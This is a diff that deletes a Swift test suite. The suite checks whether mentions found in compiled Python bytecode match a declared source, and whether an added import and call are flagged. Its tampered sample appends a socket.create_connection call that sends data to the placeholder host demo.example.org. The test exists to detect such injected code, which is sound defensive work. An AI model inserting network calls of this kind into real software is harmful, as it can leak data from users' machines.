@@ -31,27 +31,3 @@ struct DecompiledTests {
     #expect(compiled > 20)
   }
 }
-
-@Suite("CodeMentions")
-struct CodeMentionsTests {
-  @Test(
-    "of bytecode are those of its source, and tell what another source lacks",
-    .enabled(if: !DisassemblyTests.minors.isEmpty, "no interpreter of 3.6 to 3.14 is here"),
-    arguments: DisassemblyTests.minors)
-  func comparison(minor: Int) throws {
-    let honest = "import os\nfrom . import x\nclass C:\n    def f(self): return self.__g('a' 'b', os.getcwd())\n"
-    let changed = honest + "import socket\nsocket.create_connection(('demo.example.org', 80)).send(b'x')\n"
-    let source = CodeMentions(
-      imports: ["os", "."], callees: ["os.getcwd"], names: ["os", "x", "C", "f", "self", "__g", "getcwd"],
-      texts: ["a", "b", "C.f"])
-    let first = try #require(try CompiledSource.compile(honest, minor: minor)?.file.mentions())
-    #expect(first.missing(from: source).isEmpty, "\(first.missing(from: source))")
-    let second = try #require(try CompiledSource.compile(changed, minor: minor)?.file.mentions())
-    let missing = second.missing(from: source)
-    #expect(missing.imports == ["socket"])
-    #expect(missing.callees == ["socket.create_connection"])
-    #expect(missing.names == ["socket", "create_connection", "send"])
-    #expect(missing.texts == ["demo.example.org"])
-    #expect(missing.byteStrings == [[0x78]])
-  }
-}
